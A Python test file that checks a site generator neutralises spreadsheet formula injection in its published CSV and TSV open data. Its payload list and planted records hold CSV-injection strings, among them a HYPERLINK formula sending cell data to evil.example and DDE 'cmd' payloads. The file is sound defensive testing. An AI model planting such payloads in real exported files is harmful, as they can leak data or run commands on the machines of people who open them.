"""Formula injection into the open data: no CSV or TSV cell may start a formula.

`data/projects.csv` is opened in Excel by municipal staff. A name, an organisation's label or
a goal that starts with `=`, `+`, `-` or `@` (also after leading spaces or invisible
characters) would arrive as a live formula such as `=HYPERLINK("http://…")`. Every cell is
neutralised as OWASP recommends, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from hostile_build import CONTENT, base_record, write_record

from generator.analysis.comparison import ProjectComparison
from generator.catalog import Catalog
from generator.export import table
from generator.export.csv_safety import FORMULA_TRIGGERS, is_formula, safe_cell
from generator.export.entries import projects_csv
from generator.export.table import COLUMNS
from generator.i18n import LANGUAGES, t
from generator.site.generate import generate_all
from generator.site.lookups.derived import Derived
from generator.site.lookups.index import build_index
from generator.validation.run import validate

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
            " =1+1", "\u00a0=1+1", "\u2003\u3000=1+1", "\u200b=1+1", "\ufeff@x",
            "\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20x", "\x00=1"]
ORDINARY = ["Göinge \u2013 ett steg framåt", "Steget vidare", "'citat'", "100 %", "a=b", "2019-05",
            "", "long-term-unemployed;newly-arrived", "ca 40"]
NUMBERS = ["0", "12", "-3", "4.25", "-0.5", "100000000000"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_a_formula_gets_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert not is_formula(safe_cell(value)), "neutralised once is enough"


@pytest.mark.parametrize("value", ORDINARY + NUMBERS)
def test_text_and_numbers_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _one_row(column_value: Callable[[str], str]) -> list[list[str]]:
    """projects.csv of the real catalogue, every column's cells replaced as told."""
    catalog = validate(CONTENT).catalog
    rows = Derived(catalog, build_index(catalog)).rows
    original = dict(COLUMNS)
    try:
        for name in COLUMNS:
            COLUMNS[name] = _replaced(column_value(name))
        return cells(projects_csv(catalog, rows))
    finally:
        COLUMNS.clear()
        COLUMNS.update(original)


def _replaced(value: str) -> table.Cell:
    def cell(_: ProjectComparison, __: Catalog) -> str:
        return value
    return cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_column_is_neutralised(payload: str) -> None:
    """Whatever a column's cell function returns, in every column at once."""
    header, *rows = _one_row(lambda _: payload)
    assert header == list(COLUMNS)
    assert rows and all(row == ["'" + payload] * len(COLUMNS) for row in rows)


def test_numeric_columns_stay_numeric() -> None:
    header, *rows = _one_row(lambda name: "-12.5")
    assert all(row == ["-12.5"] * len(header) for row in rows)


def hostile_catalogue(folder: Path) -> Catalog:
    """The real content with a project whose every free text a CSV shows starts a formula,
    and an owner whose label does."""
    content = folder / "content"
    shutil.copytree(CONTENT, content)
    organisations = content / "vocabularies" / "organisations.yml"
    vocabulary = yaml.safe_load(organisations.read_text(encoding="utf-8"))
    vocabulary["terms"].append({"id": "formula-owner", "type": vocabulary["terms"][0]["type"],
                                "label": {"sv": "=HYPERLINK(\"http://evil.example\")",
                                          "en": "@SUM(1+1)"}})
    organisations.write_text(yaml.safe_dump(vocabulary, allow_unicode=True, sort_keys=False),
                             encoding="utf-8")
    record = base_record()
    record["owner"] = "formula-owner"
    record["name"] = {"sv": "=HYPERLINK(\"http://evil.example\",\"Klicka\")", "en": "+1+1"}
    record["outcomes"][0]["goals"][0]["text"] = {"sv": "-1+cmd|' /C calc'!A0", "en": "@x"}
    write_record(content, record)
    result = validate(content)
    assert result.ok, result.diagnostics
    return result.catalog


def test_records_cannot_put_a_formula_into_any_published_table(tmp_path: Path) -> None:
    """Every CSV or TSV the site publishes, in both languages: no cell starts a formula,
    and the planted texts are there, neutralised."""
    trees = generate_all(hostile_catalogue(tmp_path))
    tables = [page for pages in trees.values() for page in pages
              if page.path.endswith((".csv", ".tsv"))]
    assert tables, "the site publishes at least projects.csv"
    for page in tables:
        found = cells(page.markdown) if page.path.endswith(".csv") else [
            line.split("\t") for line in page.markdown.splitlines()]
        assert [cell for row in found for cell in row if is_formula(cell)] == [], page.path
    header, *rows = cells(next(page for page in tables if page.path == "data/projects.csv")
                          .markdown)
    [planted] = [dict(zip(header, row, strict=True)) for row in rows
                 if row[0] == base_record()["id"]]
    assert planted["name_sv"] == "'=HYPERLINK(\"http://evil.example\",\"Klicka\")"
    assert planted["name_en"] == "'+1+1"
    assert planted["owner_name"] == "'=HYPERLINK(\"http://evil.example\")"
    assert planted["goal"] == "'-1+cmd|' /C calc'!A0"


def test_the_triggers_are_the_documented_ones() -> None:
    assert set("=+-@\t\r") <= FORMULA_TRIGGERS


def test_the_data_page_explains_it_in_both_languages() -> None:
    trees = generate_all(validate(CONTENT).catalog)
    for language in LANGUAGES:
        page = next(page for page in trees[language] if page.path == "data/index.md")
        explanation = t(language, "compare.data.csv.formulas")
        assert f"<p>{explanation}</p>" in page.markdown
        assert all(char in explanation for char in "=+-@'")
